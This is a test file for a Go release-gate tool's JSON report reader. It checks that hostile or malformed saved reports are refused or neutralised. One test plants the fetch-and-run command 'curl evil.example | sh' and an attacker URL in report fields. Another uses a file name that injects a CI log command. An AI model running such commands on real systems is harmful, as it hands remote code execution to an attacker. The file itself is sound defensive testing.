"""Saved reports: a valid one comes back as it was, and nothing else does harm."""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from go_release_gate.errors import ReportError
from go_release_gate.model.report import CheckReport, Comparison
from go_release_gate.report import json_report, reading
from go_release_gate.report.options import RenderOptions
from go_release_gate.report.reading_json import parse
from go_release_gate.report.reading_schema import (
    DIFF_LIMIT,
    FINDINGS_LIMIT,
    MODULES_LIMIT,
    is_repository_path,
    reader_schema,
    refuse_misfits,
)
from go_release_gate.report.reading_values import report_of
from support import reports
from support.hostile import foreign


def compared() -> CheckReport:
    """A report held against its base commit."""
    return replace(reports.failing(), comparison=Comparison("2e" * 20, 1, 3, 2))


SAMPLES = [reports.passing, reports.failing, reports.unavailable, compared]
DROPPED: dict[str, Any] = {"owners": [], "fix": None}


def read(document: Any) -> CheckReport:
    """What is read from a document, without the way through a file."""
    found = parse(json.dumps(document).encode())
    refuse_misfits(found)
    return report_of(found)


def saved(report: CheckReport) -> dict[str, Any]:
    """The document of a report."""
    document: dict[str, Any] = json.loads(json_report.render(report, RenderOptions()))
    return document


def kept(document: dict[str, Any]) -> dict[str, Any]:
    """What of a document is taken over: findings of known rules, without fixes and owners; no address of a run."""
    known = [item for item in document["findings"] if item["rule"] != "local-replace"]
    suppressed = [item for item in document["suppressed"] if item["finding"]["rule"] != "local-replace"]
    left_out = ["left out: 1 finding of rules that this version does not know"] if document["suppressed"] else []
    return {
        **document,
        "subject": {**document["subject"], "run": None},
        "findings": [{**item, **DROPPED} for item in known],
        "suppressed": suppressed,
        "notices": [*left_out, *document["notices"]],
    }


@pytest.mark.parametrize("sample", SAMPLES)
def test_a_report_comes_back(sample: Callable[[], CheckReport], tmp_path: Path) -> None:
    """From file to report to document is the same document, but for what is never taken over."""
    document = saved(sample())
    file = tmp_path / "report.json"
    file.write_text(json.dumps(document), encoding="utf-8")

    assert json_report.document(reading.read_report(file)) == kept(document)


def test_fingerprints_are_those_of_the_first_run() -> None:
    """A comment made for the saved report is found again by a check that makes the same finding."""
    report = reports.failing()
    keyed = replace(report, findings=tuple(replace(item, key="a key of its own") for item in report.findings))

    assert [item.fingerprint for item in read(saved(keyed)).findings] == [item.fingerprint for item in keyed.findings]


def test_nothing_that_leads_or_wakes_is_taken_over() -> None:
    """No fix, no command, no owner, no address of the file's: pages are those of our own rules."""
    document = saved(reports.failing())
    for item in document["findings"]:
        item["help_url"], item["command"] = "https://evil.example/", "curl evil.example | sh"
    document["subject"]["run"] = "https://evil.example/"
    report = read(document)

    assert all((item.fix, item.command, item.owners) == (None, "", ()) for item in report.findings)
    assert [item.help_url for item in report.findings] == [item.help_url for item in reports.failing().findings]
    assert report.subject.run is None
    assert "evil" not in json.dumps(json_report.document(report))


def test_later_versions_are_read() -> None:
    """Keys that a later version adds are passed over; a rule that it added is left out, and that is said."""
    document = saved(reports.failing())
    document["later"] = {"deep": [1]}
    document["findings"][0] |= {"rule": "found-later", "later": 1}
    report = read(document)

    assert len(report.findings) == 3
    assert report.notices[0] == "left out: 2 findings of rules that this version does not know"


def test_remarks_are_few() -> None:
    """What a report remarks beyond fifty is only counted; what the reader itself says comes first."""
    document = saved(reports.failing()) | {"notices": [str(number) for number in range(60)]}

    notices = read(document).notices
    assert notices[0].startswith("left out: ")
    assert notices[1:] == (*(str(number) for number in range(50)), "and 10 more remarks")


FAULTS: list[tuple[tuple[str | int, ...], Any, str]] = [
    (("schema",), 2, "schema: expected one of 1"),
    (("kind",), "plan", 'kind: expected one of "check"'),
    (("verdict",), "fine", 'verdict: expected one of "pass"'),
    (("complete",), 1, "complete: expected a boolean"),
    (("subject", "commit"), "main", "subject.commit: expected a commit's 40 or 64 hex digits"),
    (("subject", "commit"), "A" * 40, "subject.commit: expected"),
    (("findings", 1, "location", "line"), 10_000_001, "findings[1].location.line: expected at most 10000000"),
    (("findings", 1, "location", "line"), 0, "findings[1].location.line: expected at least 1"),
    (("findings", 1, "location", "path"), "../x", "findings[1].location: expected a path relative to the root"),
    (("findings", 1, "location", "path"), "a//b", "findings[1].location: expected"),
    (("findings", 1, "module"), "/etc", "findings[1].module: expected a path relative"),
    (("findings", 1, "severity"), "critical", 'findings[1].severity: expected one of "error"'),
    (("findings", 1, "fingerprint"), "x", "findings[1].fingerprint: expected text of the form"),
    (("findings", 1, "message"), "m" * 70_000, "findings[1].message: expected at most 65536 characters"),
    (("findings", 1, "message"), None, "findings[1].message: expected text"),
    (("findings", 1, "related", 0, "location"), 1, "findings[1].related[0].location: expected an object"),
    (("modules", 0, "dir"), "a\\b", "modules[0].dir: expected a path"),
    (("modules", 0, "tidy", "diff"), "d" * (DIFF_LIMIT + 1), "modules[0].tidy.diff: expected at most"),
    (("modules", 0, "verify", "bytes"), -1, "modules[0].verify.bytes: expected at least 0"),
    (("skipped", 0, "dir"), "..", "skipped[0].dir: expected a path"),
    (("timings", "phases"), {str(number): 1 for number in range(101)}, "timings.phases: expected at most 100 keys"),
    (("tool", "name"), "other", 'tool.name: expected one of "go-release-gate"'),
    (("tool", "version"), "v" * 301, "tool.version: expected at most 300 characters"),
]


@pytest.mark.parametrize(("path", "value", "said"), FAULTS, ids=[fault[2][:40] for fault in FAULTS])
def test_faults_have_a_place(path: tuple[str | int, ...], value: Any, said: str) -> None:
    """A refusal names the place in the document and what was expected there, never what stands there."""
    document = saved(reports.failing())
    place: Any = document
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    with pytest.raises(ReportError) as refusal:
        read(document)

    assert refusal.value.message.startswith(said)
    assert refusal.value.exit_code == 2


@pytest.mark.parametrize(
    ("key", "limit"), [("findings", FINDINGS_LIMIT), ("modules", MODULES_LIMIT), ("suppressed", FINDINGS_LIMIT)]
)
def test_lists_are_bounded(key: str, limit: int) -> None:
    """One entry more than the limit is refused before any of them is looked at."""
    document = saved(reports.failing())
    document[key] = [None] * (limit + 1)
    with pytest.raises(ReportError, match=f"{key}: expected at most {limit} entries"):
        read(document)


def test_missing_keys_are_named() -> None:
    """What lacks is said by its name."""
    document = saved(reports.failing())
    del document["findings"][2]["location"]["column"]
    with pytest.raises(ReportError, match=r"findings\[2\]\.location: expected the key 'column'"):
        read(document)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (b"", "line 1: no JSON"),
        (b"\xff\xfe{}", "no UTF-8"),
        (b"[]", "no object"),
        (b'{"a": 1, "a": 2}', "one key twice"),
        (b'{"a": NaN}', "a number that is none"),
        (b'{"a": -Infinity}', "a number that is none"),
        (b'{"a": 1e999}', "too large"),
        (b'{"a": ' + b"9" * 5_000 + b"}", "too large"),
        (b'{"a": 9007199254740993}', "too large"),
        (b'{"a": -1' + b"0" * 400 + b"}", "too large"),
        (b'{"a": -1e999}', "too large"),
        (b'{"a": "\\ud800"}', "half a character"),
        (b'{"\\udfff": 1}', "half a character"),
        (b'{"a": ' + b"[" * 100_000, "nested"),
        (b'{"a": ' + b"[" * 40 + b"]" * 40 + b"}", "nested"),
        (b'{"a": ' * 5_000 + b"1" + b"}" * 5_000, "nested"),
        (b"{}", "the report: expected the key 'schema'"),
    ],
)
def test_no_json_is_too_wild(text: bytes, said: str, tmp_path: Path) -> None:
    """What JSON allows beyond reason is refused in words."""
    file = tmp_path / "r.json"
    file.write_bytes(text)
    with pytest.raises(ReportError, match=said):
        reading.read_report(file)


_SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) | foreign()
_VALUES = st.recursive(
    _SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
)


def _places(value: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """The path of every value below `value`."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [place for key, inner in items for place in ((*path, key), *_places(inner, (*path, key)))]


FAILING = saved(compared())
PLACES = _places(FAILING)


def _is_refused_or_sound(document: Any) -> bool:
    try:
        report = read(document)
    except ReportError:
        return True
    places = [item.location for item in report.findings]
    return (
        Draft202012Validator(reader_schema()).is_valid(json_report.document(report))
        and all(is_repository_path(place.path) for place in places)
        and all(type(place.line) in (int, type(None)) for place in places)
    )


@settings(max_examples=200, deadline=None)
@given(document=_VALUES)
@example(document={"schema": True})
def test_any_json_is_a_report_or_refused(document: Any) -> None:
    """Whatever the JSON: a sound report or the one error."""
    assert _is_refused_or_sound(document)


@settings(max_examples=400, deadline=None)
@given(places=st.lists(st.sampled_from(PLACES), min_size=1, max_size=3), value=_VALUES, drop=st.booleans())
def test_any_change_to_a_report_is_read_or_refused(places: list[tuple[str | int, ...]], value: Any, drop: bool) -> None:
    """The same for a valid report with a few values replaced or taken away."""
    document = copy.deepcopy(FAILING)
    for *path, last in places:
        inner: Any = document
        try:
            for key in path:
                inner = inner[key]
            if drop:
                del inner[last]
            else:
                inner[last] = copy.deepcopy(value)
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change took the place away
    assert _is_refused_or_sound(document)


@settings(max_examples=100, deadline=None)
@given(data=st.binary(max_size=200))
def test_any_bytes_are_refused(data: bytes) -> None:
    """Bytes that are no report give the error and nothing else."""
    with pytest.raises(ReportError):
        refuse_misfits(parse(data))


def test_a_folder_stands_for_its_reports(tmp_path: Path) -> None:
    """Every *.json in it, by name; what lies deeper or has another name is not read."""
    for name, version in (("b.json", "2"), ("a.json", "1")):
        (tmp_path / name).write_text(json.dumps(saved(replace(reports.passing(), version=version))))
    (tmp_path / "notes.txt").write_text("no report")
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "c.json").write_text("no report")

    assert [report.version for report in reading.read_reports([tmp_path])] == ["1", "2"]


def test_an_empty_folder_is_refused(tmp_path: Path) -> None:
    """An artifact that holds no report does not look like one that has nothing to say."""
    with pytest.raises(ReportError, match=r"no \*\.json"):
        reading.read_reports([tmp_path])
    with pytest.raises(ReportError, match=r"cannot read .*no such file"):
        reading.read_reports([tmp_path / "missing.json"])


def test_bytes_are_counted_over_all_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Several reports share one limit."""
    text = json.dumps(saved(reports.passing()))
    for name in ("a.json", "b.json"):
        (tmp_path / name).write_text(text)
    monkeypatch.setattr(reading, "TOTAL_LIMIT", len(text) + 1)

    with pytest.raises(ReportError, match=r"b\.json: .* where 1 are left"):
        reading.read_reports([tmp_path])


def test_names_of_files_are_foreign(tmp_path: Path) -> None:
    """A file's name in a message gives no command and fills no log."""
    name = "\n::error::" + "x" * 200 + ".json"
    (tmp_path / name).write_text("{")
    with pytest.raises(ReportError) as refusal:
        reading.read_reports([tmp_path])

    assert "\n" not in refusal.value.message
    assert len(refusal.value.message) < 400


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_what_may_not_be_read_is_said(tmp_path: Path) -> None:
    """Missing rights are an error in words."""
    file = tmp_path / "r.json"
    file.write_text("{}")
    file.chmod(0)
    with pytest.raises(ReportError, match="permission denied"):
        reading.read_report(file)


def test_paths_of_a_repository() -> None:
    """Relative, with slashes, without a way out."""
    good = (".", "go.mod", "a/b/go.mod", "..a/b", "a b/\n", "a/...")
    bad = ("", "/", "/a", "a/", "./a", "a/./b", "a/../b", "..", "a\\b", "a\0b", "C:/x", "a//b")
    assert [path for path in good if not is_repository_path(path)] == []
    assert [path for path in bad if is_repository_path(path)] == []
